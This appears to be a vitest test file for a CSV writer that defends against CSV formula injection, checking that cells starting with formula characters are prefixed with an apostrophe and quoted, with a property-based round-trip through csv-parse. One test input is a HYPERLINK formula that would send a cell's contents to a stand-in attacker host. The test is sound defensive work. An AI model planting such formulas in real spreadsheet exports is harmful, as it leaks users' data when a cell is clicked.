// The cells of every CSV we write (OWASP "CSV Injection"), read back by csv-parse, an independent
// RFC 4180 reader: a cell that starts like a formula comes back as text after one apostrophe;
// every other cell comes back exactly as given.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, startsLikeFormula } from '../../src/formats/csv-writer.ts';

const readOne = (line: string): string[] => {
  const rows = parse(`${line}\r\n`) as string[][];
  expect(rows).toHaveLength(1);
  return rows[0] ?? [];
};

describe('CSV cells we write', () => {
  it('neutralizes a cell starting with =, +, -, @, tab, CR, NUL or their full-width forms, and quotes it', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\u0000', '＝', '＋', '－', '＠']) {
      const value = `${start}1+1`;
      expect(startsLikeFormula(value)).toBe(true);
      const cell = csvCell(value);
      expect(cell.startsWith(`"'`)).toBe(true);
      expect(readOne(`a,${cell},b`)).toEqual(['a', `'${value}`, 'b']);
    }
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
    );
  });

  it('leaves other cells as they were, quoting commas, quotes, line breaks, semicolons and tabs', () => {
    expect(csvLine(['123456789', '10001', '2026-11-26', '1234.56', 'Acme Supplies', 'I'])).toBe(
      '123456789,10001,2026-11-26,1234.56,Acme Supplies,I',
    );
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell('Ñandú "Co",\r\nx')).toBe('"Ñandú ""Co"",\r\nx"');
    expect(csvCell('')).toBe('');
  });

  it('round-trips any text through csv-parse: the same text, or an apostrophe and the same text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 20 }), { minLength: 1, maxLength: 6 }), (cells) => {
        const read = readOne(csvLine(cells));
        expect(read).toEqual(cells.map((c) => (startsLikeFormula(c) ? `'${c}` : c)));
        for (const cell of read) expect(startsLikeFormula(cell)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});
